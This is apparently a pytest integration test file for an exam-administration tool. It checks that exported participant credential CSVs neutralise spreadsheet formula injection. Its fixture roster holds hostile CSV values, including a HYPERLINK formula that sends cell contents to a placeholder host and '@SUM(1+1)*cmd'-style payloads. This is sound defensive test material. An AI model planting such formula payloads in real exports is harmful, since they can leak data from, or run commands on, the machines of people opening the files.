"""The credentials CSV, from the command and from the admin pages, never carries a live formula.

The roster's author chooses participant numbers and passwords; a spreadsheet
opening the credentials file must show them as text, not run them.
"""
from __future__ import annotations

import csv
import io
import re

import pytest

from tests.integration.conftest import ServerProcess, prepare_data
from tests.integration.helpers import write_blueprint
from tests.integration.test_admin_http import AdminBrowser

pytestmark = pytest.mark.slow

HOSTILE_ROSTER = ('participant_number,name,password\n'
                  '"=HYPERLINK(""http://contoh.invalid/?""&A1,""klik"")",Ani,sandi-ani-1\n'
                  '+1,Budi,@SUM(1+1)*cmd\n'
                  '-2+3,Citra,\n'
                  'P-004,Dewi,=1+1-sandi\n')
EXPECTED = {"'=HYPERLINK(\"http://contoh.invalid/?\"&A1,\"klik\")": "sandi-ani-1", "'+1": "'@SUM(1+1)*cmd",
            "'-2+3": None, "P-004": "'=1+1-sandi"}


def _check(text: str) -> None:
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["participant_number"] for r in rows] == list(EXPECTED)
    for row in rows:
        assert not row["participant_number"].startswith(("=", "+", "-", "@", "\t", "\r"))
        assert not row["password"].startswith(("=", "+", "-", "@", "\t", "\r"))
        if EXPECTED[row["participant_number"]] is not None:
            assert row["password"] == EXPECTED[row["participant_number"]]


def test_create_session_writes_credentials_with_formulas_neutralised(exam_cli, tmp_path):
    from tests.integration.helpers import GIFT_BANK

    exam_cli("init", check=True)
    bank = tmp_path / "umum.gift"
    bank.write_text(GIFT_BANK, encoding="utf-8")
    exam_cli("import-bank", str(bank), "--bank", "umum", check=True)
    exam_cli("create-exam", str(write_blueprint(tmp_path)), check=True)
    roster = tmp_path / "peserta.csv"
    roster.write_text(HOSTILE_ROSTER, encoding="utf-8")
    creds = tmp_path / "creds.csv"
    exam_cli("create-session", "--exam", "UJI-1", "--name", "Sesi 1", "--candidates", str(roster),
             "--credentials-out", str(creds), check=True)
    _check(creds.read_text(encoding="utf-8"))


def test_the_admin_credentials_download_has_formulas_neutralised(exam_cli, tmp_path):
    prepare_data(exam_cli, tmp_path)
    server = ServerProcess(exam_cli.data_dir, exam_cli.database_url).start()
    try:
        admin = AdminBrowser(server.url)
        assert admin.sign_in("admin", "sandi-admin-1").status_code == 303
        opened = admin.submit("/admin/sessions", {"exam": "UJI-1", "name": "Sesi formula"},
                              {"candidates": ("peserta.csv", HOSTILE_ROSTER.encode())})
        assert opened.status_code == 303
        page = admin.get(opened.headers["Location"].replace(server.url, ""))
        link = re.search(r'id="download-credentials" href="([^"]+)"', page.text).group(1)
        _check(admin.get(link).content.decode("utf-8"))
    finally:
        server.stop()
